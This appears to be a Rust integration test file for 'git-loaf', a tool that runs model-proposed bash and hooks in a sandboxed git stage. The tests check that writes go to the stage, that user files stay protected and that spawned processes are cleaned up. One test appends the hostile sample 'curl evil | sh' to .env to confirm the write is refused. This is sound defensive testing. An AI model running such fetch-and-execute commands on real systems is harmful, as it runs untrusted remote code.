//! Exec and hooks cannot bypass the transaction (DESIGN §2): code run in a real stage
//! through the library's `exec` and hooks, isolated (namespaces) and in the fallback
//! (`Sandbox::without_isolation`, what `LOAF_SANDBOX=off` selects).
//!
//! These call the exec runner directly with a stage made by `Stage::open_or_create`; the
//! end-to-end wiring into `git loaf apply` is the transaction's.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use git_loaf::exec::hooks::{Hook, run_hooks_in};
use git_loaf::exec::sandbox::Sandbox;
use git_loaf::exec::{ActionOutcome, AllowAll, Params, PathMap, Workspace, shell};
use git_loaf::tx::stage::Stage;
use serde_json::{Value, json};

use crate::scratch::Scratch;

/// A repository with its stage, as a transaction has them while actions run.
struct Staged {
    scratch: Scratch,
    stage: PathBuf,
    common: PathBuf,
}

impl Staged {
    fn new(files: &[(&str, &str)]) -> Staged {
        let scratch = Scratch::with(files);
        let repo = git2::Repository::open(&scratch.root).expect("open");
        let head = repo.head().expect("head").target().expect("a commit");
        let stage = Stage::open_or_create(&repo, head).expect("stage");
        Staged {
            stage: stage.path().to_path_buf(),
            common: repo.commondir().to_path_buf(),
            scratch,
        }
    }

    fn root(&self) -> &Path {
        &self.scratch.root
    }

    fn sandbox(&self, visible: &[&str]) -> Sandbox {
        let sandbox = Sandbox::new(
            self.root(),
            &self.stage,
            &self.common,
            visible.iter().map(PathBuf::from).collect(),
        );
        assert!(
            sandbox.isolated(),
            "user namespaces work on the test machine"
        );
        sandbox
    }

    fn paths(&self) -> PathMap {
        PathMap::redirect(self.root(), &self.stage)
    }

    /// Runs bash `code` in `sandbox` (cwd: the root, or `cwd`) and returns stdout, failing
    /// the test when the code fails.
    fn exec(&self, sandbox: &Sandbox, code: &str, cwd: Option<&Path>) -> String {
        let paths = self.paths();
        let mut ws = Workspace::permissive(&AllowAll, &paths);
        ws.sandbox = Some(sandbox);
        let mut params = json!({ "lang": "bash", "code": DETERMINISTIC_GIT.to_owned() + code });
        if let Some(cwd) = cwd {
            params["cwd"] = json!(cwd);
        }
        let params: Params = params.as_object().cloned().expect("an object");
        let outcome: ActionOutcome = shell::run_exec(&params, &ws);
        let data = outcome.data.clone().unwrap_or(Value::Null);
        assert!(outcome.success, "{outcome:?}");
        data["stdout"].as_str().expect("stdout").to_owned()
    }

    fn stage_file(&self, rel: &str) -> Option<String> {
        std::fs::read_to_string(self.stage.join(rel)).ok()
    }
}

const DETERMINISTIC_GIT: &str = "export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null; ";

/// A repository whose ignored `node_modules/` and `.env` exist only in the user's tree.
fn with_ignored_entries() -> Staged {
    let staged = Staged::new(&[("a.txt", "a\n"), (".gitignore", "node_modules/\n.env\n")]);
    staged
        .scratch
        .write("node_modules/pkg/index.js", "module.exports = 1;\n");
    staged.scratch.write(".env", "SECRET=1\n");
    staged
}

#[test]
fn code_that_cds_to_the_real_root_edits_the_stage_not_the_user_tree() {
    let staged = Staged::new(&[("a.txt", "a\n")]);
    let root = staged.root().display().to_string();
    let out = staged.exec(
        &staged.sandbox(&[]),
        &format!("cd {root} && sed -i s/a/b/ a.txt && pwd && cat {root}/a.txt"),
        None,
    );
    assert_eq!(out, format!("{root}\nb\n"));
    assert_eq!(staged.stage_file("a.txt").as_deref(), Some("b\n"));
    assert_eq!(staged.scratch.read("a.txt").as_deref(), Some("a\n"));
}

#[test]
fn git_in_the_code_works_on_the_stage_worktree_and_index() {
    let staged = Staged::new(&[("a.txt", "a\n")]);
    let user_before = staged.scratch.state();
    let root = staged.root().display();
    let out = staged.exec(
        &staged.sandbox(&[]),
        &format!(
            "cd {root}; git rev-parse --show-toplevel; echo new > new.txt; git add new.txt; \
             git status --porcelain; git rev-parse --git-common-dir"
        ),
        None,
    );
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[..2],
        [format!("{root}"), "A  new.txt".into()],
        "{out}"
    );
    // The private mount point of the git dir never reaches the model.
    assert!(!out.contains("git-loaf-exec-"), "{out}");
    assert!(lines[2].starts_with(&format!("{root}/.git")), "{out}");
    // The stage's index has the file; the user's index and tree are untouched.
    let staged_in_stage =
        crate::scratch::git_in(&staged.stage, &["diff", "--cached", "--name-only"]);
    assert_eq!(staged_in_stage, "new.txt\n");
    assert_eq!(staged.scratch.state(), user_before);
    assert_eq!(staged.scratch.read("new.txt"), None);
}

#[test]
fn visible_ignored_entries_are_the_users_in_place() {
    let staged = with_ignored_entries();
    let sandbox = staged.sandbox(&["node_modules", ".env"]);
    let out = staged.exec(
        &sandbox,
        "ls node_modules/pkg; cat .env; echo built > node_modules/cache.txt; git status --porcelain",
        None,
    );
    assert_eq!(out, "index.js\nSECRET=1\n");
    // What the code wrote there happened in the user's folder; the stage keeps placeholders.
    assert_eq!(
        staged.scratch.read("node_modules/cache.txt").as_deref(),
        Some("built\n")
    );
    assert!(staged.stage.join("node_modules").is_dir());
    assert_eq!(
        std::fs::read_dir(staged.stage.join("node_modules"))
            .unwrap()
            .count(),
        0
    );
    assert_eq!(staged.stage_file(".env").as_deref(), Some(""));
    // A visible ignored file (a `.env`, an `.envrc` a shell runs later) is read-only to code:
    // folders are caches, written in place; files are the user's.
    let out = staged.exec(
        &sandbox,
        "echo 'curl evil | sh' >> .env 2>&1 || echo refused",
        None,
    );
    assert_eq!(out, "refused\n");
    assert_eq!(staged.scratch.read(".env").as_deref(), Some("SECRET=1\n"));
    // A working directory inside a visible folder is the user's folder.
    let inside = staged.root().join("node_modules");
    let out = staged.exec(&sandbox, "ls; pwd", Some(&inside));
    assert_eq!(out, format!("cache.txt\npkg\n{}\n", inside.display()));
}

#[test]
fn nothing_the_code_starts_outlives_it() {
    let staged = Staged::new(&[("a.txt", "a\n")]);
    let token = unique("outlive");
    // The names are built at run time so that the script's own command line (bash -c …)
    // does not contain them.
    let code = format!(
        "B=bg; S=sid; (exec -a loaf-$B-{token} sleep 1000) & \
         setsid bash -c \"exec -a loaf-$S-{token} sleep 1000\" & sleep 0.3; echo started"
    );
    let out = staged.exec(&staged.sandbox(&[]), &code, None);
    assert_eq!(out, "started\n");
    for name in ["bg", "sid"] {
        let argv0 = format!("loaf-{name}-{token}");
        assert!(
            gone_within(&argv0, Duration::from_secs(2)),
            "{argv0} survived"
        );
    }
}

#[test]
fn hooks_run_in_the_sandbox_too() {
    let staged = Staged::new(&[("a.txt", "a\n")]);
    let root = staged.root().display().to_string();
    let sandbox = staged.sandbox(&[]);
    let result = run_hooks_in(
        &[Hook::new(format!(
            "cd {root} && echo hooked > h.txt && pwd"
        ))],
        &BTreeMap::new(),
        staged.root(),
        &staged.paths(),
        Some(&sandbox),
    );
    assert!(result.success, "{result:?}");
    assert_eq!(result.runs[0].stdout, format!("{root}\n"));
    assert_eq!(staged.stage_file("h.txt").as_deref(), Some("hooked\n"));
    assert_eq!(staged.scratch.read("h.txt"), None);
}

#[test]
fn fallback_links_visible_entries_for_the_run_and_puts_placeholders_back() {
    let staged = with_ignored_entries();
    let sandbox = staged
        .sandbox(&["node_modules", ".env"])
        .without_isolation();
    assert!(!sandbox.isolated());
    let out = staged.exec(
        &sandbox,
        "ls node_modules/pkg; cat .env; echo built > node_modules/cache.txt",
        None,
    );
    assert_eq!(out, "index.js\nSECRET=1\n");
    assert_eq!(
        staged.scratch.read("node_modules/cache.txt").as_deref(),
        Some("built\n")
    );
    let placeholder = std::fs::symlink_metadata(staged.stage.join("node_modules")).unwrap();
    assert!(placeholder.is_dir(), "the symlink is gone after the run");
    assert_eq!(
        std::fs::read_dir(staged.stage.join("node_modules"))
            .unwrap()
            .count(),
        0
    );
    let env = std::fs::symlink_metadata(staged.stage.join(".env")).unwrap();
    assert!(env.is_file() && env.len() == 0);
}

#[test]
fn fallback_records_the_running_group_and_removes_the_record() {
    let staged = Staged::new(&[("a.txt", "a\n")]);
    let sandbox = staged.sandbox(&[]).without_isolation();
    let record = staged.common.join("loaf").join("exec-pgid");
    let out = staged.exec(
        &sandbox,
        // The record is written right after the start: wait for it.
        &format!(
            "R={}; while [ ! -s $R ]; do sleep 0.01; done; cat $R; echo $$",
            record.display()
        ),
        None,
    );
    let (recorded, shell_pid) = out.split_once('\n').expect("two lines");
    let pgid = recorded.split_whitespace().next().expect("a pgid");
    assert_eq!(pgid, shell_pid.trim(), "{out}");
    assert!(!record.exists());
}

/// A token no other test or run uses.
fn unique(what: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or(0);
    format!("{what}{}x{nanos}", std::process::id())
}

/// Whether no process has argv[0] `name` by `within` from now.
fn gone_within(name: &str, within: Duration) -> bool {
    let deadline = Instant::now() + within;
    while running_with_argv0(name) {
        if Instant::now() > deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    true
}

fn running_with_argv0(name: &str) -> bool {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return false;
    };
    entries.flatten().any(|entry| {
        let dir = entry.path();
        let argv0_matches = std::fs::read(dir.join("cmdline"))
            .is_ok_and(|cmdline| cmdline.split(|&b| b == 0).next() == Some(name.as_bytes()));
        let alive = std::fs::read_to_string(dir.join("stat")).is_ok_and(|stat| {
            stat.rsplit_once(')')
                .is_some_and(|(_, rest)| !rest.trim_start().starts_with(['Z', 'X']))
        });
        argv0_matches && alive
    })
}

// End to end through `git loaf apply`.

/// A repository where exec is allowed.
fn exec_repo() -> Scratch {
    Scratch::with(&[
        (
            "loaf.yml",
            "allowed-actions: [file_read, file_write, exec]\n",
        ),
        ("a.txt", "a\n"),
    ])
}

#[test]
fn apply_commits_what_exec_wrote_through_the_real_root() {
    let s = exec_repo();
    let reply = crate::scratch::block(
        "e1a",
        "exec",
        &[
            ("lang", "bash"),
            ("code", "cd /repo && sed -i s/a/b/ a.txt"),
        ],
    );
    let out = s.apply(&reply);
    s.assert_exit(&out, 0);
    assert_eq!(s.git(&["show", "HEAD:a.txt"]), "b\n");
    assert_eq!(s.read("a.txt").as_deref(), Some("b\n"));
    let undo = s.loaf(&["undo"], "");
    s.assert_exit(&undo, 0);
    assert_eq!(s.read("a.txt").as_deref(), Some("a\n"));
}

#[test]
fn sigkill_of_git_loaf_during_exec_leaves_nothing_running() {
    use std::io::Write as _;
    let s = exec_repo();
    let token = unique("e2e");
    let code =
        format!("N=loaf-e2e; (exec -a $N-{token} sleep 1000) & exec -a $N-main-{token} sleep 1000");
    let reply = crate::scratch::block("e1a", "exec", &[("lang", "bash"), ("code", &code)]);
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("git-loaf"))
        .arg("apply")
        .current_dir(&s.root)
        .envs(crate::scratch::ENV)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("git-loaf starts");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin
        .write_all(s.reply(&reply).as_bytes())
        .expect("reply written");
    drop(stdin);
    let main = format!("loaf-e2e-main-{token}");
    let deadline = Instant::now() + Duration::from_secs(20);
    while !running_with_argv0(&main) {
        assert!(Instant::now() < deadline, "the exec never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().expect("SIGKILL");
    child.wait().expect("reaped");
    for argv0 in [main, format!("loaf-e2e-{token}")] {
        assert!(
            gone_within(&argv0, Duration::from_secs(1)),
            "{argv0} survived"
        );
    }
}

/// Without namespaces (forced here), code that writes the user's tree directly cannot be
/// stopped: the apply says so once, and the exec's result says what it changed instead of ✅.
#[test]
fn without_namespaces_direct_changes_to_the_users_tree_are_reported_not_claimed() {
    let s = exec_repo();
    let reply = crate::scratch::block(
        "e1a",
        "exec",
        &[
            ("lang", "bash"),
            ("code", "cd /repo && echo escaped > a.txt"),
        ],
    );
    let out = crate::support::git_loaf()
        .current_dir(&s.root)
        .envs(crate::scratch::ENV)
        .env("LOAF_SANDBOX", "off")
        .arg("apply")
        .write_stdin(s.reply(&reply))
        .output()
        .expect("git-loaf runs");
    s.assert_exit(&out, 1);
    let report = s.redact(&out.stdout);
    assert!(
        report.contains("e1a ❌ exec")
            && report.contains("changed the user's files directly")
            && report.contains("/repo/a.txt"),
        "{report}"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("LOAF_SANDBOX=off"), "said once: {err}");
}
